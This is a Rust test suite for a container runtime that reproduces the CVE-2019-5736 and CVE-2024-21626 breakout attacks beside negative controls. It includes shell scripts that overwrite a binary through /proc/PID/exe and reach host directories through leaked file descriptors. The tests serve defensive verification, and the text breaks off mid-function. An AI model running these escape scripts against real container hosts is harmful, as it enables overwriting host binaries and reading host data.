//! Breakout attacks of issue #6, classes 1 and 3, each beside a negative control that aims
//! the same technique at a deliberately unprotected target and shows it succeeding.
//!
//! * CVE-2019-5736: a container process gets hold of the runtime's binary through
//!   `/proc/PID/exe` (the exec target is `#!/proc/self/exe`, so the kernel runs the runtime's
//!   own binary inside the container; or the runtime's process is caught while it sits inside
//!   the container), keeps a read-only fd on it, and once that process has gone reopens the
//!   fd for writing through `/proc/self/fd/3`. The runtime under attack is a COPY of the
//!   binary under test made in the test's scratch dir, so a broken seal could only damage the
//!   copy. Control: the same watcher against an unsealed copy of busybox bind-mounted rw into
//!   the container overwrites that host copy.
//! * CVE-2024-21626: fds of the runtime reaching the container (`/proc/self/fd/N` as a path,
//!   `process.cwd`/`exec --cwd` set to `/proc/self/fd/N`, `/proc/<runtime pid>/fd/N` while the
//!   runtime's process is inside the container). Control: a host directory fd deliberately
//!   handed in with `--preserve-fds` is reachable with the same paths.
//!
//! The container processes only ever write to their own fds or to the test's scratch dirs.
mod common;
use common::*;
use serde_json::json;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

// ---- a runtime copy and a way to invoke it --------------------------------------------

/// A copy of the runtime under test in the env's scratch dir: every attack aims at it, so
/// a runtime without protection could only damage this copy.
struct Rt {
    prog: PathBuf,
    sha: String,
}

fn runtime_copy(env: &Env) -> Rt {
    let dir = env.tempdir("rtbin");
    let prog = dir.join(runtime().file_name().unwrap());
    fs::copy(runtime(), &prog).unwrap();
    fs::set_permissions(&prog, fs::Permissions::from_mode(0o755)).unwrap();
    let sha = sha256_file(&prog);
    assert_eq!(
        sha,
        sha256_file(&runtime()),
        "copy differs from the runtime"
    );
    assert_eq!(sha.len(), 64, "sha256sum failed");
    Rt { prog, sha }
}

/// A runtime (or other) process started in the background, stdio to files.
struct Bg {
    child: Child,
    out: PathBuf,
    err: PathBuf,
    what: String,
}

impl Bg {
    fn stdout_now(&self) -> String {
        read_lossy(&self.out)
    }

    fn wait(mut self, deadline: Duration) -> Out {
        let start = Instant::now();
        let code = loop {
            if let Some(st) = self.child.try_wait().unwrap() {
                break exit_code(st);
            }
            if start.elapsed() > deadline {
                let _ = self.child.kill();
                let _ = self.child.wait();
                panic!(
                    "`{}` did not finish within {deadline:?}\nstdout: {}\nstderr: {}",
                    self.what,
                    read_lossy(&self.out),
                    read_lossy(&self.err)
                );
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        Out {
            cmd: self.what.clone(),
            code,
            stdout: read_lossy(&self.out),
            stderr: read_lossy(&self.err),
        }
    }
}

impl Drop for Bg {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// Starts `rt --root ROOT args...`; `fds` become fds 3, 4, ... of the runtime.
fn spawn_rt(env: &Env, rt: &Rt, args: &[&str], fds: Vec<fs::File>) -> Bg {
    static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let k = N.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    let out = env.base.join(format!("io{k}.out"));
    let err = env.base.join(format!("io{k}.err"));
    let mut cmd = Command::new(&rt.prog);
    cmd.arg("--root").arg(&env.root).args(args);
    cmd.stdin(Stdio::null())
        .stdout(fs::File::create(&out).unwrap())
        .stderr(fs::File::create(&err).unwrap())
        .current_dir("/");
    pass_fds_from_3(&mut cmd, &fds);
    let what = format!("{} {}", rt.prog.display(), args.join(" "));
    let child = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot spawn {what}: {e}"));
    drop(fds);
    Bg {
        child,
        out,
        err,
        what,
    }
}

fn rt_run(env: &Env, rt: &Rt, args: &[&str]) -> Out {
    spawn_rt(env, rt, args, vec![]).wait(CMD_DEADLINE)
}

/// Polls `f` until it returns true; panics after `what` took longer than STATE_DEADLINE.
#[track_caller]
fn wait_until(what: &str, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while !f() {
        assert!(
            start.elapsed() < STATE_DEADLINE,
            "timed out waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Copies the shared libraries `bin` needs (per ldd) to the same paths in `rootfs`, as a
/// container image with glibc would have them: the runtime's binary must be able to run
/// inside the container for `#!/proc/self/exe` to get anywhere.
fn install_libs(rootfs: &Path, bin: &Path) {
    let out = Command::new("ldd").arg(bin).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    for l in text.lines() {
        let path = match l.split_once("=>") {
            Some((_, r)) => r.split_whitespace().next(),
            None => l.split_whitespace().next(),
        };
        let Some(path) = path.filter(|p| p.starts_with('/')) else {
            continue;
        };
        let dst = rootfs.join(path.trim_start_matches('/'));
        fs::create_dir_all(dst.parent().unwrap()).unwrap();
        fs::copy(path, &dst).unwrap_or_else(|e| panic!("copy {path}: {e}"));
    }
}

fn mkfifo(p: &Path) {
    let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
    assert_eq!(
        unsafe { libc::mkfifo(c.as_ptr(), 0o666) },
        0,
        "mkfifo {}",
        p.display()
    );
    fs::set_permissions(p, fs::Permissions::from_mode(0o666)).unwrap();
}

/// Bind-mounts host dir `src` read-write at `dest` (created in the rootfs).
fn bind_rw(b: &Bundle, src: &Path, dest: &str) {
    fs::create_dir_all(b.rootfs().join(dest.trim_start_matches('/'))).unwrap();
    b.edit_config(|c| {
        push_mount(
            c,
            json!({ "destination": dest, "type": "bind", "source": src, "options": ["rbind", "rw"] }),
        )
    });
}

/// The value after `key ` on the first line starting with it.
fn field<'a>(out: &'a str, key: &str) -> Option<&'a str> {
    out.lines().find_map(|l| l.strip_prefix(key).map(str::trim))
}

// ---- CVE-2019-5736 ----------------------------------------------------------------------

/// Both watchers' last step: waits up to 1500 polls for target `$p` to exit, then prints
/// `target-gone` or `target-still-alive`. Each poll reads /proc/$p/status once: testing
/// that it exists and then grepping it raced with the zombie being reaped in between (a
/// failed grep read as "alive"), which failed CI in the VM. The read is the shell's own
/// (`read` builtin, no fork): a `cat` per poll made 1500 polls outlast the test's deadline
/// under TCG.
const WAIT_GONE: &str = r#"gone=
i=0
while [ $i -lt 1500 ]; do
  st=
  { while read -r l; do case "$l" in State:*) st=$l; break ;; esac; done < /proc/$p/status; } 2>/dev/null || { gone=1; break; }
  [ -z "$st" ] && { gone=1; break; }
  case "$st" in *[ZX]" ("*) gone=1; break ;; esac
  usleep 10000
  i=$((i+1))
done
if [ -n "$gone" ]; then echo "target-gone"; else echo "target-still-alive"; fi"#;

/// The watcher: finds the process whose command line mentions the trap FIFO (the target,
/// blocked opening that FIFO for writing), holds a read-only fd on its /proc/PID/exe,
/// releases it by reading the FIFO, waits until it has gone, then reopens the fd for
/// writing through /proc/self/fd/3 (with and without O_TRUNC).
const EXE_WATCHER: &str = r#"
F='@FIFO@'
PAT='@PAT@'
p=
i=0
while [ $i -lt 1500 ]; do
  p=$(grep -l -e "$PAT" /proc/[0-9]*/cmdline 2>/dev/null | head -n 1)
  [ -n "$p" ] && break
  usleep 20000
  i=$((i+1))
done
if [ -z "$p" ]; then echo "notarget"; exit 0; fi
p=${p#/proc/}
p=${p%/cmdline}
echo "target $p"
echo "cmdline $(tr '\0' ' ' < /proc/$p/cmdline)"
echo "exe-link $(readlink /proc/$p/exe 2>&1)"
opened=
if command exec 3< /proc/$p/exe; then
  opened=1
  echo "opened"
  echo "fd-sha $(sha256sum /proc/self/fd/3 | cut -d ' ' -f 1)"
else
  echo "open-failed"
fi
cat "$F" > /dev/null &
rel=$!
@WAIT_GONE@
if [ -n "$opened" ]; then
  r=$( (echo PWNED > /proc/self/fd/3) 2>&1 ) && echo "write-trunc-ok" || echo "write-trunc-failed $r"
  r=$( (echo PWNED >> /proc/self/fd/3) 2>&1 ) && echo "write-append-ok" || echo "write-append-failed $r"
fi
kill $rel 2>/dev/null
echo "done"
"#;

/// Which stage of the runtime's life the binary is exposed in.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Stage {
    /// `exec`: the exec'd program is the target.
    Exec,
    /// `run`: the container's init is the target (no pid namespace, so the watcher, an
    /// exec'd process, survives the init's exit).
    Init,
}

/// What the target is.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Target {
    /// A script `#!/proc/self/exe --log=FIFO`: the kernel runs the runtime's own binary,
    /// which blocks opening its log (the FIFO).
    RuntimeViaShebang,
    /// Negative control: an unsealed copy of busybox (host file, bind-mounted rw at
    /// /victim/sh) blocking on `: > FIFO`.
    UnsealedCopy,
}

struct ExeAttack {
    watcher: Out,
    target: Out,
    /// sha256 of the runtime copy before and after.
    rt_before: String,
    rt_after: String,
    /// The host victim copy's contents before and after.
    victim_before: Vec<u8>,
    victim_after: Vec<u8>,
}

fn exe_attack(env: &Env, stage: Stage, target: Target) -> ExeAttack {
    let rt = runtime_copy(env);
    let shared = env.tempdir("shared");
    let victim_dir = env.tempdir("victim");
    let victim = victim_dir.join("sh");
    fs::copy("/bin/busybox", &victim).unwrap();
    fs::set_permissions(&victim, fs::Permissions::from_mode(0o755)).unwrap();
    let victim_before = fs::read(&victim).unwrap();

    // A name unique to this env, so the pattern cannot match another test's processes
    // (the init stage shares the host's pid namespace).
    let fifo_name = format!("{}trap.fifo", env.name);
    mkfifo(&shared.join(&fifo_name));
    let fifo = format!("/shared/{fifo_name}");
    let pat = fifo.replace('.', "[.]");

    let target_args: Vec<String> = match target {
        Target::RuntimeViaShebang => vec!["/evil".into()],
        Target::UnsealedCopy => vec!["/victim/sh".into(), "-c".into(), format!(": > {fifo}")],
    };
    let target_args: Vec<&str> = target_args.iter().map(String::as_str).collect();
    let init_args: Vec<&str> = match stage {
        Stage::Exec => vec!["sleep", "1000"],
        Stage::Init => target_args.clone(),
    };
    let b = env.bundle_with(&init_args, |c| {
        if stage == Stage::Init {
            set_namespaces(c, &["network", "ipc", "uts", "mount"]);
        }
    });
    bind_rw(&b, &shared, "/shared");
    bind_rw(&b, &victim_dir, "/victim");
    install_libs(&b.rootfs(), &rt.prog);
    b.put_file("/evil", &format!("#!/proc/self/exe --log={fifo}\n"), 0o755);
    b.put_file(
        "/watch.sh",
        &EXE_WATCHER
            .replace("@WAIT_GONE@", WAIT_GONE)
            .replace("@FIFO@", &fifo)
            .replace("@PAT@", &pat),
        0o755,
    );

    let id = env.id(&format!("{stage:?}{target:?}"));
    let (watcher, target_out) = match stage {
        Stage::Exec => {
            rt_run(env, &rt, &["run", "-d", "--bundle", b.path(), &id]).success();
            let w = spawn_rt(env, &rt, &["exec", &id, "sh", "/watch.sh"], vec![]);
            let mut args = vec!["exec", id.as_str()];
            args.extend_from_slice(&target_args);
            let t = spawn_rt(env, &rt, &args, vec![]).wait(CMD_DEADLINE);
            (w.wait(CMD_DEADLINE), t)
        }
        Stage::Init => {
            // run -d returns once the init has exec'd its program, which then blocks on the
            // FIFO; the watcher comes in with exec.
            let t = rt_run(env, &rt, &["run", "-d", "--bundle", b.path(), &id]);
            let w =
                spawn_rt(env, &rt, &["exec", &id, "sh", "/watch.sh"], vec![]).wait(CMD_DEADLINE);
            (w, t)
        }
    };
    rt_run(env, &rt, &["delete", "--force", &id]);
    env.assert_nothing_left(&id);
    ExeAttack {
        watcher,
        target: target_out,
        rt_before: rt.sha.clone(),
        rt_after: sha256_file(&rt.prog),
        victim_before,
        victim_after: fs::read(&victim).unwrap(),
    }
}

/// The attack reached the runtime's binary (an fd on the very file, same bytes) and every
/// reopen for writing failed; the copy on the host is unchanged.
#[track_caller]
fn assert_runtime_binary_held_but_not_written(a: &ExeAttack) {
    let w = &a.watcher.stdout;
    let ctx = format!("watcher: {:#?}\ntarget: {:#?}", a.watcher, a.target);
    assert!(
        field(w, "target ").is_some(),
        "the watcher never found the runtime's process\n{ctx}"
    );
    assert!(
        w.contains("\nopened\n"),
        "the attack got no fd on the runtime's binary\n{ctx}"
    );
    assert_eq!(
        field(w, "fd-sha "),
        Some(a.rt_before.as_str()),
        "the fd is not the runtime binary\n{ctx}"
    );
    assert!(w.contains("target-gone"), "{ctx}");
    let exe = field(w, "exe-link ").unwrap_or("");
    assert!(!exe.contains("busybox") && !exe.is_empty(), "{ctx}");
    assert!(
        w.contains("write-trunc-failed"),
        "reopening the runtime binary for writing succeeded\n{ctx}"
    );
    assert!(
        w.contains("write-append-failed"),
        "reopening the runtime binary for appending succeeded\n{ctx}"
    );
    // ETXTBSY would only mean some process still executes the file (a plain open for
    // writing meets that too); the O_TRUNC reopen must be refused for another reason (a
    // read-only mount: EROFS; a sealed memfd: EPERM).
    let trunc = field(w, "write-trunc-failed ").unwrap_or("");
    assert!(
        !trunc.contains("Text file busy"),
        "only ETXTBSY stopped the write\n{ctx}"
    );
    assert!(w.contains("\ndone\n"), "{ctx}");
    assert_eq!(
        a.rt_after, a.rt_before,
        "the runtime copy was modified\n{ctx}"
    );
    assert_eq!(a.victim_after, a.victim_before, "{ctx}");
}

/// The same watcher overwrote the unsealed host copy.
#[track_caller]
fn assert_victim_overwritten(a: &ExeAttack) {
    let w = &a.watcher.stdout;
    let ctx = format!("watcher: {:#?}\ntarget: {:#?}", a.watcher, a.target);
    assert_eq!(field(w, "exe-link "), Some("/victim/sh"), "{ctx}");
    assert!(w.contains("\nopened\n"), "{ctx}");
    assert!(w.contains("target-gone"), "{ctx}");
    assert!(w.contains("write-trunc-ok"), "{ctx}");
    assert!(
        a.victim_after.starts_with(b"PWNED\n"),
        "host copy not overwritten: {:?}\n{ctx}",
        &a.victim_after[..16.min(a.victim_after.len())]
    );
    assert_ne!(a.victim_after, a.victim_before, "{ctx}");
    assert_eq!(a.rt_after, a.rt_before, "{ctx}");
}

/// `exec` of a `#!/proc/self/exe` script: the runtime's binary runs inside the container;
/// the container holds its /proc/PID/exe and reopens it for writing once it has exited.
#[test]
fn cve_2019_5736_shebang_proc_self_exe_during_exec() {
    let env = Env::new();
    let a = exe_attack(&env, Stage::Exec, Target::RuntimeViaShebang);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    assert_runtime_binary_held_but_not_written(&a);
}

/// Negative control for the test above: the same watcher against an unsealed binary
/// exec'd into the container overwrites the host file.
#[test]
fn cve_2019_5736_control_unsealed_binary_during_exec_is_overwritten() {
    let env = Env::new();
    let a = exe_attack(&env, Stage::Exec, Target::UnsealedCopy);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    assert_victim_overwritten(&a);
}

/// The container's init is a `#!/proc/self/exe` script: the runtime's binary becomes the
/// running container's process.
#[test]
fn cve_2019_5736_shebang_proc_self_exe_as_init() {
    let env = Env::new();
    let a = exe_attack(&env, Stage::Init, Target::RuntimeViaShebang);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    assert_runtime_binary_held_but_not_written(&a);
}

/// Negative control for the test above: an unsealed binary as init is overwritten.
#[test]
fn cve_2019_5736_control_unsealed_binary_as_init_is_overwritten() {
    let env = Env::new();
    let a = exe_attack(&env, Stage::Init, Target::UnsealedCopy);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    assert_victim_overwritten(&a);
}

// ---- the runtime's own process inside the container (both classes) ---------------------

/// The watcher for the runtime's process while it sits inside the container: finds the
/// target (`$1`, or the one process whose exe is not busybox), then tries everything a
/// container process could use against it: its exe (read-only fd, reopened for writing once
/// it has gone), its cwd and every fd through /proc/PID/{exe,cwd,fd}; `REACHED-HOST` lines
/// mean a host directory holding the test's marker was reached. `@RELEASE@` lets it go on.
const PROC_WATCHER: &str = r#"
M='@MARK@'
p="$1"
echo "ready"
i=0
while [ -z "$p" ] && [ $i -lt 400 ]; do
  for d in /proc/[0-9]*; do
    q=${d#/proc/}
    case "$q" in 1|$$) continue;; esac
    e=$(readlink $d/exe 2>/dev/null)
    [ "$e" = /bin/busybox ] && continue
    usleep 100000
    [ -e $d/status ] || continue
    grep -q '^State:.*[ZX]' $d/status 2>/dev/null && continue
    e=$(readlink $d/exe 2>/dev/null)
    [ "$e" = /bin/busybox ] && continue
    p=$q
    break
  done
  [ -z "$p" ] && usleep 20000
  i=$((i+1))
done
if [ -z "$p" ]; then echo "notarget"; @RELEASE@; exit 0; fi
echo "target $p"
echo "cmdline $(tr '\0' ' ' < /proc/$p/cmdline)"
echo "exe-link [$(readlink /proc/$p/exe 2>&1)]"
opened=
if command exec 3< /proc/$p/exe 2>/dev/null; then
  opened=1
  echo "exe-open ok $(sha256sum /proc/self/fd/3 | cut -d ' ' -f 1)"
else
  echo "exe-open failed $( (: < /proc/$p/exe) 2>&1)"
fi
echo "cwd-link [$(readlink /proc/$p/cwd 2>&1)]"
echo "root-link [$(readlink /proc/$p/root 2>&1)]"
echo "fd-list [$(ls /proc/$p/fd 2>&1 | tr '\n' ' ')]"
for n in 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24; do
  l=$(readlink /proc/$p/fd/$n 2>/dev/null) && echo "fd $n -> $l"
  [ -d /proc/$p/fd/$n ] && echo "fd-dir $n [$(ls /proc/$p/fd/$n 2>&1 | head -n 20 | tr '\n' ' ')]"
  grep -qs "$M" /proc/$p/fd/$n/HOSTMARK && echo "REACHED-HOST fd $n"
  grep -qs "$M" /proc/$p/fd/$n/../HOSTMARK && echo "REACHED-HOST fd $n/.."
done
grep -qs "$M" /proc/$p/cwd/HOSTMARK && echo "REACHED-HOST cwd"
grep -qs "$M" /proc/$p/root/HOSTMARK && echo "REACHED-HOST root"
@RELEASE@
# Only an exe fd held needs the target gone (to be reopened for writing); a target that is
# released by nothing (the init waiting in `created`) is not waited for.
if [ -n "$opened" ]; then
@WAIT_GONE@
fi
if [ -n "$opened" ]; then
  r=$( (echo PWNED > /proc/self/fd/3) 2>&1 ) && echo "write-trunc-ok" || echo "write-trunc-failed $r"
fi
echo "done"
"#;

/// A host directory holding `HOSTMARK` (content: a marker unique to the env).
fn host_marker_dir(env: &Env) -> (PathBuf, String) {
    let d = env.tempdir("hostdir");
    let mark = format!("host-secret-{}", env.name);
    fs::write(d.join("HOSTMARK"), &mark).unwrap();
    (d, mark)
}

/// The marker also in the bundle dir, where a runtime's fd or cwd could plausibly point.
fn mark_bundle(b: &Bundle, mark: &str) {
    fs::write(b.dir.join("HOSTMARK"), mark).unwrap();
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum ProcTarget {
    /// `exec`: the runtime's process in the container blocks reading /etc/passwd (a FIFO)
    /// for HOME; the runtime was handed a host directory fd it was not asked to preserve.
    RuntimeDuringExec,
    /// `create`: the container's init (pid 1), waiting for `start`; the runtime was handed a
    /// host directory fd at create.
    RuntimeInitCreated,
    /// Negative control: a dumpable, unsealed busybox copy exec'd with that host directory
    /// fd deliberately preserved, blocking on a FIFO of its own.
    UnsealedWithPreservedFd,
}

struct ProcAttack {
    watcher: Out,
    target: Option<Out>,
    mark: String,
    rt_before: String,
    rt_after: String,
    victim_before: Vec<u8>,
    victim_after: Vec<u8>,
}

fn proc_attack(env: &Env, what: ProcTarget) -> ProcAttack {
    let rt = runtime_copy(env);
    let (hostdir, mark) = host_marker_dir(env);
    let victim_dir = env.tempdir("victim");
    let victim = victim_dir.join("sh");
    fs::copy("/bin/busybox", &victim).unwrap();
    fs::set_permissions(&victim, fs::Permissions::from_mode(0o755)).unwrap();
    let victim_before = fs::read(&victim).unwrap();
    let hostfd = || vec![fs::File::open(&hostdir).unwrap()];

    let b = env.bundle(&["sleep", "1000"]);
    mark_bundle(&b, &mark);
    bind_rw(&b, &victim_dir, "/victim");
    // The control's victim blocks on its own FIFO (a runtime may read /etc/passwd itself).
    mkfifo(&b.rootfs().join("trap.fifo"));
    let release = match what {
        ProcTarget::RuntimeInitCreated => ":",
        ProcTarget::RuntimeDuringExec => "cat /etc/passwd.orig > /etc/passwd",
        ProcTarget::UnsealedWithPreservedFd => "echo go > /trap.fifo",
    };
    b.put_file(
        "/watch.sh",
        &PROC_WATCHER
            .replace("@WAIT_GONE@", WAIT_GONE)
            .replace("@MARK@", &mark)
            .replace("@RELEASE@", release),
        0o755,
    );
    fs::copy(
        b.rootfs().join("etc/passwd"),
        b.rootfs().join("etc/passwd.orig"),
    )
    .unwrap();
    let id = env.id(&format!("{what:?}"));

    let (watcher, target) = match what {
        ProcTarget::RuntimeInitCreated => {
            spawn_rt(env, &rt, &["create", "--bundle", b.path(), &id], hostfd())
                .wait(CMD_DEADLINE)
                .success();
            let w = spawn_rt(env, &rt, &["exec", &id, "sh", "/watch.sh", "1"], vec![])
                .wait(CMD_DEADLINE);
            (w, None)
        }
        _ => {
            rt_run(env, &rt, &["run", "-d", "--bundle", b.path(), &id]).success();
            let w = spawn_rt(env, &rt, &["exec", &id, "sh", "/watch.sh"], vec![]);
            wait_until("the watcher to start", || w.stdout_now().contains("ready"));
            if what == ProcTarget::RuntimeDuringExec {
                // From now on every read of /etc/passwd in the container (the runtime's
                // HOME lookup) blocks until the watcher writes the original into the FIFO.
                let pw = b.rootfs().join("etc/passwd");
                fs::remove_file(&pw).unwrap();
                mkfifo(&pw);
            }
            let t = match what {
                ProcTarget::RuntimeDuringExec => {
                    spawn_rt(env, &rt, &["exec", &id, "true"], hostfd())
                }
                _ => spawn_rt(
                    env,
                    &rt,
                    &[
                        "exec",
                        "--preserve-fds",
                        "1",
                        "--env",
                        "HOME=/",
                        &id,
                        "/victim/sh",
                        "-c",
                        "read x < /trap.fifo",
                    ],
                    hostfd(),
                ),
            };
            let w = w.wait(CMD_DEADLINE);
            (w, Some(t.wait(CMD_DEADLINE)))
        }
    };
    rt_run(env, &rt, &["delete", "--force", &id]);
    env.assert_nothing_left(&id);
    ProcAttack {
        watcher,
        target,
        mark,
        rt_before: rt.sha.clone(),
        rt_after: sha256_file(&rt.prog),
        victim_before,
        victim_after: fs::read(&victim).unwrap(),
    }
}

/// The runtime's process was found inside the container, and neither its binary nor any
/// host directory was reachable through it.
#[track_caller]
fn assert_runtime_process_unreachable(a: &ProcAttack) {
    let w = &a.watcher.stdout;
    let ctx = format!("watcher: {:#?}\ntarget: {:#?}", a.watcher, a.target);
    assert!(
        field(w, "target ").is_some(),
        "the watcher never found the runtime's process\n{ctx}"
    );
    let cmdline = field(w, "cmdline ").unwrap_or("");
    assert!(
        cmdline.contains("exec") || cmdline.contains("init") || cmdline.contains("create"),
        "target is not the runtime\n{ctx}"
    );
    assert!(
        !w.contains("REACHED-HOST"),
        "a host directory was reached through the runtime's process\n{ctx}"
    );
    assert!(!w.contains(&a.mark), "{ctx}");
    // Its binary: not openable at all, or (if it were) not writable.
    if let Some(sha) = field(w, "exe-open ok ") {
        assert_eq!(sha, a.rt_before, "{ctx}");
        assert!(w.contains("write-trunc-failed"), "{ctx}");
    }
    assert!(w.contains("\ndone\n"), "{ctx}");
    assert_eq!(
        a.rt_after, a.rt_before,
        "the runtime copy was modified\n{ctx}"
    );
    assert_eq!(a.victim_after, a.victim_before, "{ctx}");
    if let Some(t) = &a.target {
        t.success();
    }
}

/// `exec`: the runtime's process caught inside the container (blocked on /etc/passwd) while
/// it holds a host directory fd it inherited.
#[test]
fn runtime_process_during_exec_exposes_neither_binary_nor_fds() {
    let env = Env::new();
    let a = proc_attack(&env, ProcTarget::RuntimeDuringExec);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    assert_runtime_process_unreachable(&a);
}

/// `created`: the init waiting for `start` (handed a host directory fd at create).
#[test]
fn runtime_init_while_created_exposes_neither_binary_nor_fds() {
    let env = Env::new();
    let a = proc_attack(&env, ProcTarget::RuntimeInitCreated);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    assert_runtime_process_unreachable(&a);
}

/// Negative control for the two tests above: the same watcher, aimed at an unprotected
/// process (dumpable, unsealed binary, a preserved host directory fd), reaches the host
/// directory through /proc/PID/fd and overwrites the binary through /proc/PID/exe.
#[test]
fn control_unprotected_process_exposes_binary_and_fds() {
    let env = Env::new();
    let a = proc_attack(&env, ProcTarget::UnsealedWithPreservedFd);
    eprintln!("watcher saw:\n{}", a.watcher.stdout);
    let w = &a.watcher.stdout;
    let ctx = format!("watcher: {:#?}\ntarget: {:#?}", a.watcher, a.target);
    assert!(
        field(w, "cmdline ").unwrap_or("").starts_with("/victim/sh"),
        "{ctx}"
    );
    assert!(w.contains("REACHED-HOST fd 3\n"), "{ctx}");
    assert!(w.contains("exe-open ok"), "{ctx}");
    assert!(w.contains("write-trunc-ok"), "{ctx}");
    assert!(a.victim_after.starts_with(b"PWNED\n"), "{ctx}");
    assert_eq!(a.rt_after, a.rt_before, "{ctx}");
}

// ---- CVE-2024-21626 -----------------------------------------------------------------

/// Probes run inside the container: its own fd table (`fd N LINK`), then every fd number a
/// runtime might have leaked, as a path (`/proc/self/fd/N/HOSTMARK`), as a directory to
/// enter, and its parent.
const FD_PROBE: &str = r#"
M='@MARK@'
echo "fdtable-begin"
ls -l /proc/$$/fd
echo "fdtable-end"
n=3
while [ $n -le 40 ]; do
  grep -qs "$M" /proc/self/fd/$n/HOSTMARK && echo "REACHED-HOST fd $n"
  grep -qs "$M" /proc/self/fd/$n/../HOSTMARK && echo "REACHED-HOST fd $n/.."
  if (cd /proc/self/fd/$n 2>/dev/null); then
    (cd /proc/self/fd/$n && grep -qs "$M" HOSTMARK ../HOSTMARK && echo "REACHED-HOST cd $n")
  fi
  n=$((n+1))
done
echo "probe-done"
"#;

/// Host dir fds planted at 3..=6 of the runtime (inherited, not asked to be preserved).
fn planted(dir: &Path) -> Opts<'static> {
    Opts {
        extra_fds: (0..4).map(|_| fs::File::open(dir).unwrap()).collect(),
        ..Default::default()
    }
}

/// The shell's fd table from FD_PROBE's `ls -l /proc/$$/fd` (run as a child, so the
/// listing holds only the shell's own fds): (fd, link) pairs.
fn probe_fds(out: &str) -> Vec<(u32, String)> {
    let Some((_, rest)) = out.split_once("fdtable-begin\n") else {
        return vec![];
    };
    let table = rest.split("fdtable-end").next().unwrap_or("");
    table
        .lines()
        .filter_map(|l| {
            let (left, link) = l.split_once(" -> ")?;
            let n = left.split_whitespace().last()?.parse().ok()?;
            Some((n, link.to_string()))
        })
        .collect()
}

#[track_caller]
fn assert_no_leak(out: &Out, mark: &str, hostdir: &Path) {
    out.success();
    assert!(out.stdout.contains("probe-done"), "{out:#?}");
    assert!(
        !out.stdout.contains("REACHED-HOST"),
        "a leaked fd reached the host: {out:#?}"
    );
    assert!(!out.stdout.contains(mark), "{out:#?}");
    let fds = probe_fds(&out.stdout);
    assert!(!fds.is_empty(), "no fd table: {out:#?}");
    let nums: Vec<u32> = fds.iter().map(|(n, _)| *n).collect();
    assert_eq!(
        nums,
        [0, 1, 2],
        "fds beyond stdio reached the process: {out:#?}"
    );
    assert!(!out.stdout.contains(hostdir.to_str().unwrap()), "{out:#?}");
}

/// Fds the runtime inherited (host directories, not preserved) and any of its own never
/// reach the init or an exec'd process, by number or through /proc/self/fd.
#[test]
fn cve_2024_21626_no_runtime_fd_reaches_init_or_exec() {
    let env = Env::new();
    let (hostdir, mark) = host_marker_dir(&env);
    let probe = FD_PROBE.replace("@MARK@", &mark);

    // The init, started by run with the planted fds.
    let b = env.bundle(&["sh", "-c", &probe]);
    mark_bundle(&b, &mark);
    let id = env.id("run");
    let out = env.rt_opts(&["run", "--bundle", b.path(), &id], planted(&hostdir));
    assert_no_leak(&out, &mark, &hostdir);
    env.assert_nothing_left(&id);

    // create (planted fds) + start: the init's fd table after start.
    let b = env.bundle(&["sh", "-c", &format!("exec > /probe.out 2>&1\n{probe}")]);
    b.edit_config(|c| c["root"]["readonly"] = json!(false));
    mark_bundle(&b, &mark);
    let id = env.id("created");
    env.rt_opts(&["create", "--bundle", b.path(), &id], planted(&hostdir))
        .success();
    env.rt_opts(&["start", &id], planted(&hostdir)).success();
    env.wait_status(&id, "stopped");
    let text = fs::read_to_string(b.rootfs().join("probe.out")).unwrap();
    let out = Out {
        cmd: "create+start".into(),
        code: 0,
        stdout: text,
        stderr: String::new(),
    };
    assert_no_leak(&out, &mark, &hostdir);
    env.rt(&["delete", &id]).success();
    env.assert_nothing_left(&id);

    // exec (planted fds) into a running container.
    let b = env.bundle(&["sleep", "1000"]);
    mark_bundle(&b, &mark);
    let id = env.id("exec");
    env.rt_opts(&["run", "-d", "--bundle", b.path(), &id], planted(&hostdir))
        .success();
    let out = env.rt_opts(&["exec", &id, "sh", "-c", &probe], planted(&hostdir));
    assert_no_leak(&out, &mark, &hostdir);
    // And the init started by run -d holds nothing either.
    let out = env.rt(&[
        "exec",
        &id,
        "sh",
        "-c",
        "ls /proc/1/fd; for f in /proc/1/fd/*; do readlink $f; done",
    ]);
    out.success();
    let init_fds: Vec<&str> = out
        .lines()
        .into_iter()
        .filter(|l| l.chars().all(|c| c.is_ascii_digit()))
        .collect();
    assert_eq!(init_fds, ["0", "1", "2"], "{out:#?}");
    env.rt(&["delete", "--force", &id]).success();
    env.assert_nothing_left(&id);
}

/// What a process started with a `/proc/self/fd/N` working directory saw.
const CWD_PROBE: &str = r#"
echo "cwd-link $(readlink /proc/self/cwd)"
echo "pwd $(pwd)"
echo "ls-here $(ls -a | tr '\n' ' ')"
echo "ls-up $(ls -a .. | tr '\n' ' ')"
cat HOSTMARK ../HOSTMARK ../../HOSTMARK 2>/dev/null
echo "cwd-done"
"#;

/// One `/proc/self/fd/N` cwd attempt: refused (nothing left), or the process runs inside
/// the container and cannot see the host.
#[track_caller]
fn check_cwd_attempt(out: &Out, mark: &str, n: u32) -> String {
    if !out.ok() {
        assert!(!out.stdout.contains(mark), "{out:#?}");
        assert!(
            !out.stdout.contains("cwd-done"),
            "failed, yet the process ran: {out:#?}"
        );
        let e = out.stderr_lines().join(" | ");
        return format!("fd {n}: refused: {e}");
    }
    let ctx = format!("cwd /proc/self/fd/{n} reached the host: {out:#?}");
